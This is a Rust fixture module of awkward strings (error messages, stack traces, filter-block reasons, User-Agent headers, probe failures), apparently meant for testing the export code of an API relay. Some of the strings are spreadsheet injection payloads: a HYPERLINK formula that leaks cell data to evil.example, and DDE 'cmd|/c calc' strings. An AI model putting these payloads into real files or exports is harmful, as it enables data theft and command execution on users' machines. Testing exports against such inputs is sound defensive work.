//! Messages of providers, clients and filters, with strings that break a carelessly written file.

/// Returns whether a name consists of letters, digits and a few harmless characters only.
pub(crate) fn is_ordinary(name: &str) -> bool {
    let is_usual = |letter: char| letter.is_alphanumeric() || matches!(letter, ' ' | '-' | '.' | '\'');
    name.len() <= 40 && name.starts_with(char::is_alphanumeric) && name.chars().all(is_usual)
}

/// Error messages of failed requests.
pub(crate) const ERRORS: [&str; 12] = [
    "Overloaded",
    "Rate limit exceeded: 429 Too Many Requests, retry after 17s",
    "upstream said \"no\", then hung up",
    "terminated",
    "first line\nsecond line\r\nthird line",
    "\\.\nthe line above ends a COPY if it is not escaped\n\\.",
    "a tab\tand a back\\slash, and \\N which is not null",
    "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"open\")",
    "-2+3+cmd|' /C calc'!A0",
    "Le modèle est surchargé — réessayez",
    "请求失败：上游返回 502，正文为「坏网关」🔥",
    "خطأ في الخادم: انتهت المهلة",
];

/// The stacks of the errors.
pub(crate) const STACKS: [&str; 2] = [
    "TypeError: terminated\n\tat Fetch.onAborted (node:internal/deps/undici/undici:11132:53)\n\tat Fetch.emit (node:events:518:28)",
    "Error: read ECONNRESET\n    at TLSWrap.onStreamRead (node:internal/stream_base_commons:216:20) {\n  errno: -104,\n  syscall: 'read'\n}",
];

/// The causes of the errors: JSON as text.
pub(crate) const CAUSES: [&str; 2] = [
    r#"{"code":"NGHTTP2_INTERNAL_ERROR","message":"Stream closed with error code NGHTTP2_INTERNAL_ERROR"}"#,
    r#"{"code":"ECONNRESET","errno":-104,"path":"C:\\proxy\\sock"}"#,
];

/// The filter that blocked a request, the status that the client got, and the reason.
pub(crate) static BLOCKS: [(&str, i64, &str); 4] = [
    (
        "warmup",
        200,
        "{\"reason\":\"anthropic_warmup_intercepted\",\"note\":\"not billed\"}",
    ),
    (
        "sensitive_word",
        400,
        "{\"word\":\"公司机密\",\"matchType\":\"contains\",\"matchedText\":\"…\\n公司机密, \\\"draft\\\"\"}",
    ),
    (
        "client_guard",
        403,
        "client \"curl/8.5.0\" is not among the allowed ones",
    ),
    ("rate_limit", 429, "daily limit reached: $25.50 of $25.50"),
];

/// The `User-Agent` headers of clients.
pub(crate) const USER_AGENTS: [&str; 10] = [
    "claude-cli/2.0.55 (external, cli)",
    "claude-cli/2.0.55 (external, cli)",
    "claude-cli/2.1.3 (external, sdk-ts, agent-sdk/0.1.60)",
    "codex_cli_rs/0.63.0 (Ubuntu 24.4.0; x86_64) xterm-256color",
    "codex_vscode/0.5.46 (Mac OS 15.1.1; arm64) vscode/1.106.2",
    "GeminiCLI/0.18.0 (linux; x64)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36, like \"Gecko\"",
    "curl/8.5.0",
    "=cmd|'/c calc'!A1",
    "агент/1.0\t(таб; \\ обратная)",
];

/// Failures of probes: status, kind and message.
pub(crate) const PROBE_ERRORS: [(Option<i64>, &str, &str); 8] = [
    (None, "timeout", "timed out after 10000 ms"),
    (None, "connect_error", "connect ECONNREFUSED 203.0.113.7:443"),
    (
        None,
        "tls_error",
        "certificate has expired: \"CN=relay.example\", issued by O=Demo, C=XX",
    ),
    (Some(0), "unknown", ""),
    (Some(401), "http_4xx", "invalid x-api-key"),
    (Some(429), "http_4xx", "rate limited\nretry-after: 17"),
    (
        Some(500),
        "http_5xx",
        "Internal Server Error <html><body>\t500</body></html>",
    ),
    (
        Some(503),
        "http_5xx",
        "upstream connect error, reset reason: connection termination \\o/",
    ),
];
